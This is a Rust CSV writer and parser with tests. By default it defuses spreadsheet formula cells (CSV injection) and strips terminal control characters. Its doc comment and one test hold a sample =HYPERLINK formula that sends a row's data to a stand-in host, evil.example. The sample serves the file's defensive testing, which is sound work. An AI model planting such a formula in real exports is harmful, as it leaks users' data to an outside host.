//! CSV as RFC 4180 writes it: a header row, CRLF after every record, and a field quoted when it holds
//! a comma, a double quote, a CR or an LF, its quotes doubled. [`parse`] reads that back (it is what
//! the tests check the writer against, and lets a caller read an exported file).
//!
//! Safe by default: a cell that a spreadsheet would take for a formula (one that begins with `=`, `+`,
//! `-`, `@`, a TAB or a CR; [`FORMULA_TRIGGERS`]) is written as the usual CSV-injection advice says,
//! with a single quote `'` in front and the whole cell quoted, so a name such as
//! `=HYPERLINK("https://evil.example/?"&C2,"Acme Member")` opens as text, not as a link that sends
//! the row away. [`Cells::Raw`] writes every cell as it is, for programs that read the file.

/// The first characters that make a spreadsheet read a cell as a formula.
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// How cells are written.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Cells {
    /// A cell that begins with one of [`FORMULA_TRIGGERS`] gets a `'` in front and is quoted.
    #[default]
    Safe,
    /// Every cell as it is (for machines, not spreadsheets).
    Raw,
}

impl Cells {
    /// `Raw` when `raw`, else `Safe`.
    pub fn raw_if(raw: bool) -> Self {
        if raw {
            Self::Raw
        } else {
            Self::Safe
        }
    }
}

/// Whether a spreadsheet would read this cell as a formula.
pub fn is_formula_like(field: &str) -> bool {
    field.starts_with(FORMULA_TRIGGERS)
}

/// A writer of one record at a time: RFC 4180 quoting (only where a field needs it), CRLF after it.
fn writer(style: csv::QuoteStyle) -> csv::Writer<Vec<u8>> {
    csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .quote_style(style)
        .flexible(true)
        .buffer_capacity(1024)
        .from_writer(Vec::new())
}

/// The bytes a writer made; writing into a `Vec` cannot fail, and the fields were `str`.
fn written(w: csv::Writer<Vec<u8>>) -> String {
    let bytes = w.into_inner().expect("writing CSV into memory cannot fail");
    String::from_utf8(bytes).expect("CSV made of UTF-8 fields is UTF-8")
}

/// One field as it goes in a record: quoted when it must be, or always (`style`). An empty field is
/// empty (the writer would quote it when it is alone in its record).
fn encoded(field: &str, style: csv::QuoteStyle) -> String {
    if field.is_empty() {
        return String::new();
    }
    let mut w = writer(style);
    w.write_record([field]).expect("writing CSV into memory cannot fail");
    let mut text = written(w);
    text.truncate(text.len() - "\r\n".len());
    text
}

/// Appends one record and its CRLF, its cells neutralised ([`Cells::Safe`]).
pub fn push_record<S: AsRef<str>>(out: &mut String, fields: &[S]) {
    push_record_with(out, fields, Cells::Safe);
}

/// Appends one record and its CRLF, its cells written as `cells` says: quoted when they must be and,
/// when `cells` is safe, a cell that looks like a formula with a `'` in front and quoted.
pub fn push_record_with<S: AsRef<str>>(out: &mut String, fields: &[S], cells: Cells) {
    let neutralise = |f: &str| cells == Cells::Safe && is_formula_like(f);
    if fields.iter().all(|f| f.as_ref().is_empty()) && fields.len() <= 1 {
        // An empty record is an empty line (the writer would write `""`).
        out.push_str("\r\n");
    } else if fields.iter().any(|f| neutralise(f.as_ref())) {
        // Each cell on its own: the neutralised ones are always quoted, the others when they must be.
        let cells: Vec<String> = fields
            .iter()
            .map(|f| match f.as_ref() {
                f if neutralise(f) => encoded(&format!("'{f}"), csv::QuoteStyle::Always),
                f => encoded(f, csv::QuoteStyle::Necessary),
            })
            .collect();
        out.push_str(&cells.join(","));
        out.push_str("\r\n");
    } else {
        let mut w = writer(csv::QuoteStyle::Necessary);
        w.write_record(fields.iter().map(AsRef::as_ref)).expect("writing CSV into memory cannot fail");
        out.push_str(&written(w));
    }
}

/// A whole file: the header, then each row, every cell neutralised ([`Cells::Safe`]).
pub fn write<S: AsRef<str>>(header: &[&str], rows: &[Vec<S>]) -> String {
    write_with(header, rows, Cells::Safe)
}

/// A whole file: the header, then each row, every cell written as `cells` says.
pub fn write_with<S: AsRef<str>>(header: &[&str], rows: &[Vec<S>], cells: Cells) -> String {
    let mut out = String::new();
    push_record_with(&mut out, header, cells);
    for row in rows {
        push_record_with(&mut out, row, cells);
    }
    out
}

/// A CSV file as it may be shown on a terminal: every cell without control characters (escape
/// sequences, line breaks, tabs), the records still one a line. A cell that begins with a trigger once
/// its control characters are gone is neutralised again unless `cells` is raw. Text that does not
/// parse as CSV loses its control characters but its line breaks.
pub fn for_terminal(text: &str, cells: Cells) -> String {
    let clean = |s: &str| s.chars().filter(|c| !c.is_control()).collect::<String>();
    match parse(text) {
        Ok(records) => {
            let mut out = String::new();
            for r in records {
                let r: Vec<String> = r.iter().map(|c| clean(c)).collect();
                push_record_with(&mut out, &r, cells);
            }
            // The record separators stay CRLF, as in the file.
            out
        }
        Err(_) => text.split('\n').map(clean).collect::<Vec<_>>().join("\n"),
    }
}

/// Reads CSV as RFC 4180 writes it (the last record's CRLF may be missing; a lone LF also ends a
/// record; empty lines are skipped). A quote inside an unquoted field, text after a closing quote, or
/// an unclosed quote is an error saying where.
pub fn parse(text: &str) -> Result<Vec<Vec<String>>, String> {
    check_quotes(text)?;
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.map(|r| r.iter().map(str::to_owned).collect()).map_err(|e| e.to_string()))
        .collect()
}

/// The quoting rules of RFC 4180 that the reader forgives: a quote only opens a field, a closing quote
/// is followed by a comma, a line break or the end, and every quote that opens a field is closed.
fn check_quotes(text: &str) -> Result<(), String> {
    let mut chars = text.chars().peekable();
    let mut line = 1;
    // Whether the current field has had a character (outside quotes).
    let mut in_field = false;
    while let Some(c) = chars.next() {
        match c {
            '"' if !in_field => {
                loop {
                    match chars.next() {
                        Some('"') if chars.peek() == Some(&'"') => {
                            chars.next();
                        }
                        Some('"') => break,
                        Some('\n') => line += 1,
                        Some(_) => {}
                        None => return Err(format!("line {line}: a quoted field is not closed")),
                    }
                }
                match chars.peek() {
                    None | Some(',') | Some('\r') | Some('\n') => {}
                    Some(c) => return Err(format!("line {line}: {c:?} after a closing quote")),
                }
            }
            '"' => return Err(format!("line {line}: a quote inside an unquoted field")),
            ',' => in_field = false,
            '\r' if chars.peek() == Some(&'\n') => {}
            '\n' => {
                line += 1;
                in_field = false;
            }
            _ => in_field = true,
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn fields_are_quoted_only_when_they_must_be() {
        let text = write(
            &["name", "note"],
            &[
                vec!["plain", "a,b"],
                vec!["say \"hi\"", "two\nlines"],
                vec!["", "cr\ronly"],
                vec!["  spaced  ", "é ünïcode"],
            ],
        );
        assert_eq!(
            text,
            "name,note\r\nplain,\"a,b\"\r\n\"say \"\"hi\"\"\",\"two\nlines\"\r\n,\"cr\ronly\"\r\n  spaced  ,é ünïcode\r\n"
        );
        assert!(text.ends_with("\r\n"));
        let back = parse(&text).unwrap();
        assert_eq!(back.len(), 5);
        assert_eq!(back[2], ["say \"hi\"", "two\nlines"]);
        assert_eq!(back[3], ["", "cr\ronly"]);
    }

    #[test]
    fn the_parser_reads_empty_fields_and_refuses_broken_quotes() {
        assert_eq!(parse("a,,\"\"\r\n\"\"\r\n").unwrap(), [vec!["a", "", ""], vec![""]]);
        assert_eq!(parse("a\nb").unwrap(), [vec!["a".to_owned()], vec!["b".to_owned()]]);
        assert!(parse("\"open").unwrap_err().contains("not closed"));
        assert!(parse("a\"b").unwrap_err().contains("unquoted"));
        assert!(parse("\"a\"b").unwrap_err().contains("after a closing quote"));
        assert!(parse("").unwrap().is_empty());
    }

    const HYPERLINK: &str = r#"=HYPERLINK("https://evil.example/?"&C2,"Acme Member")"#;

    #[test]
    fn every_trigger_is_neutralised_and_raw_keeps_it() {
        for t in FORMULA_TRIGGERS {
            let cell = format!("{t}1+2");
            let safe = write(&["a", "b"], &[vec![cell.as_str(), "plain"]]);
            // A quote in front, the whole cell quoted.
            assert!(safe.contains(&format!("\r\n\"'{t}1+2\",plain\r\n")), "{t:?}: {safe:?}");
            let back = parse(&safe).unwrap();
            assert_eq!(back[1], [format!("'{cell}"), "plain".to_owned()], "{t:?}");
            assert!(!back[1][0].starts_with(FORMULA_TRIGGERS), "{t:?}");

            let raw = write_with(&["a", "b"], &[vec![cell.as_str(), "plain"]], Cells::Raw);
            assert_eq!(parse(&raw).unwrap()[1], [cell.clone(), "plain".to_owned()], "{t:?}");
            assert!(!raw.contains('\''), "{t:?}: raw adds nothing: {raw:?}");
        }
    }

    #[test]
    fn a_hyperlink_formula_opens_as_text() {
        let safe = write(&["name"], &[vec![HYPERLINK]]);
        assert_eq!(
            safe,
            "name\r\n\"'=HYPERLINK(\"\"https://evil.example/?\"\"&C2,\"\"Acme Member\"\")\"\r\n"
        );
        assert_eq!(parse(&safe).unwrap()[1], [format!("'{HYPERLINK}")]);
        let raw = write_with(&["name"], &[vec![HYPERLINK]], Cells::Raw);
        assert_eq!(parse(&raw).unwrap()[1], [HYPERLINK]);
        // Cells that only hold a trigger later on, or nothing, are left alone.
        let plain = write(&["a", "b", "c"], &[vec!["a=b", "", "x-1"]]);
        assert_eq!(plain, "a,b,c\r\na=b,,x-1\r\n");
        assert_eq!(Cells::raw_if(true), Cells::Raw);
        assert_eq!(Cells::raw_if(false), Cells::default());
    }

    #[test]
    fn a_terminal_sees_no_control_character() {
        let text = write(
            &["name", "note"],
            &[vec!["\u{1b}[31mred\u{1b}[0m", "two\nlines\ttab"], vec!["\t=cmd", "\u{7}ok"]],
        );
        let shown = for_terminal(&text, Cells::Safe);
        let back = parse(&shown).unwrap();
        assert_eq!(back[1], ["[31mred[0m", "twolinestab"]);
        assert_eq!(back[2], ["'=cmd", "ok"], "neutralised before, still neutralised");
        assert_eq!(shown.matches("\r\n").count(), 3, "one line a record: {shown:?}");
        assert!(!shown.replace("\r\n", "").chars().any(char::is_control), "{shown:?}");
        let raw = write_with(&["name"], &[vec!["\t=cmd"]], Cells::Raw);
        assert_eq!(parse(&for_terminal(&raw, Cells::Raw)).unwrap()[1], ["=cmd"]);
        assert_eq!(for_terminal("a\"b\u{1b}\nc", Cells::Safe), "a\"b\nc", "not CSV: still cleaned");
    }

    proptest! {
        /// Safe cells: a cell that began with a trigger comes back with a quote in front, any other as
        /// it was; no cell comes back beginning with a trigger.
        #[test]
        fn safe_cells_round_trip_with_a_quote_in_front(rows in prop::collection::vec(
            prop::collection::vec("[-=+@\t\r'a-z ,\"\n]{0,8}", 2), 0..6)
        ) {
            let text = write(&["a", "b"], &rows);
            let back = parse(&text).unwrap();
            for (row, got) in rows.iter().zip(&back[1..]) {
                for (cell, got) in row.iter().zip(got) {
                    if is_formula_like(cell) {
                        prop_assert_eq!(got, &format!("'{cell}"));
                    } else {
                        prop_assert_eq!(got, cell);
                    }
                    prop_assert!(!is_formula_like(got));
                }
            }
        }

        /// Whatever a name holds (commas, quotes, CR, LF, unicode), a file of such rows parses back to
        /// exactly those rows, and every record ends with CRLF.
        #[test]
        fn any_rows_round_trip(rows in prop::collection::vec(
            prop::collection::vec("[a-z ,\"\r\n\u{e9}\u{4e2d}]{0,12}", 3), 0..8)
        ) {
            let text = write_with(&["a", "b", "c"], &rows, Cells::Raw);
            let back = parse(&text).unwrap();
            prop_assert_eq!(&back[0], &vec!["a".to_owned(), "b".to_owned(), "c".to_owned()]);
            prop_assert_eq!(&back[1..], &rows[..]);
            prop_assert!(text.ends_with("\r\n"));
            // Outside quotes, every line break is a CRLF.
            let mut quoted = false;
            let bytes = text.as_bytes();
            for (i, b) in bytes.iter().enumerate() {
                match b {
                    b'"' => quoted = !quoted,
                    b'\n' if !quoted => prop_assert_eq!(bytes[i - 1], b'\r'),
                    _ => {}
                }
            }
        }
    }
}
